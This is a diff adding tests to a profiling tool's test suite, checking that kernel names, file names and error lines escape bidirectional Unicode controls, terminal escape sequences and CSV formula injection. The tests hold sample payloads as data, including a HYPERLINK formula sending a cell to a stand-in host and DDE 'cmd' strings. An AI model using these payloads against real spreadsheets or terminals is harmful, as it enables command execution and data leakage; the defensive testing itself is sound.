@@ -28,6 +28,7 @@ import re
 import shutil
 import subprocess
 import sys
+import tempfile
 
 SPACES = ["global", "shared", "local", "constant", "generic"]
 PRECISIONS = ["f16", "bf16", "f32", "f64"]
@@ -1633,6 +1634,71 @@ def test_escape():
     recs = list(csv.reader(io.StringIO(block)))
     check(all(len(r) == len(recs[0]) for r in recs) and recs[1][0] == '{"a":1,"b":2}',
           "csv: an object in a name column is one quoted cell", recs[:2])
+    # Bidirectional controls and line separators (U+202E, U+2066, U+2028):
+    # escaped too, so a name cannot reorder or break what the terminal
+    # shows around it ("Trojan Source").
+    g = load(GPU)
+    g["kernels"][0]["name"] = "rev\u202eesrever\u2066x\u2069\u2028end"
+    out = run("show", save(g, "bidi.json")).stdout
+    check("rev\\u202eesrever\\u2066x\\u2069\\u2028end" in out and
+          not any(c in out for c in "\u202e\u2066\u2069\u2028"),
+          "show: bidirectional controls and line separators escaped")
+    # CSV injection: a name or file starting with = + - @ opens in a
+    # spreadsheet as text, not as a formula (behind a '); numbers stay.
+    g = load(GPU)
+    formulas = ['=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    for k, f in zip(g["kernels"], formulas):
+        k["name"] = f
+    g["lines"][0]["file"] = "=1+1"
+    g["lines"][1]["file"] = "-5"
+    path = save(g, "formulas.json")
+    recs = list(csv.reader(io.StringIO(run("show", path, "--format", "csv").stdout.split("\n\n# ")[0])))
+    names = [r[1] for r in recs[1:]]
+    check(all("'" + f in names for f in formulas) and
+          not any(n[:1] in "=+-@" for n in names if n),
+          "csv: names that start like a formula start with '", names)
+    recs = list(csv.reader(io.StringIO(run("show", path, "--format", "csv", "--lines").stdout.split("\n\n# ")[0])))
+    files = [r[0] for r in recs[1:]]
+    check("'=1+1" in files and "-5" in files, "csv: a file too; a number stays", files[:3])
+
+    # Error and warning lines: what a file holds (the text near a JSON syntax
+    # error) and what a directory's file names hold reach the terminal
+    # escaped, on one line.
+    bad = os.path.join(WORK, "esc_token.json")
+    with open(bad, "w") as f:
+        f.write('{"schema":"pasta-profile","version":4,"x":\x1b]0;pwned\x07}')
+    err = run("show", bad, expect_rc=2).stderr
+    check(controls(err) == [] and "near '\\x1b'" in err and err.count("\n") == 1,
+          "error line: the file's text escaped", err)
+    ranks = os.path.join(WORK, "esc_ranks")
+    shutil.rmtree(ranks, ignore_errors=True)
+    if os.path.exists(os.path.join(WORK, "esc_merged.json")):
+        os.remove(os.path.join(WORK, "esc_merged.json"))
+    os.makedirs(ranks)
+    shutil.copy(GPU, os.path.join(ranks, "a.json"))
+    with open(os.path.join(ranks, "b\x1b[2J\nfake.json"), "w") as f:
+        f.write("x")
+    err = run("merge", os.path.join(WORK, "esc_merged.json"), ranks, expect_rc=2).stderr
+    check(controls(err) == [] and "b\\x1b[2J\\nfake.json" in err and err.count("\n") == 1,
+          "error line: a file name from a directory escaped", err)
+    os.remove(os.path.join(ranks, "b\x1b[2J\nfake.json"))
+    dup = os.path.join(ranks, "a\x1b[31m.json")
+    os.link(os.path.join(ranks, "a.json"), dup)
+    err = run("merge", os.path.join(WORK, "esc_merged.json"), ranks, "--force").stderr
+    check(controls(err) == [] and "a\\x1b[31m.json" in err,
+          "warning line: a file name from a directory escaped", err)
+    outside = tempfile.mkdtemp()
+    src = os.path.join(outside, "s\x1b]0;pwned\x07.cu")
+    with open(src, "w") as f:
+        f.write("int x;\n")
+    g = load(GPU)
+    g["lines"][0]["file"] = src
+    err = run("html", save(g, "esc_html.json"), "-o", os.path.join(WORK, "esc.html"),
+              "--force").stderr
+    shutil.rmtree(outside)
+    check(controls(err) == [] and "s\\x1b]0;pwned\\x07.cu is outside" in err,
+          "html: a refused source file's name escaped", err)
 
 
 # ---------------------------------------- diff of host code (issue 15 #6)
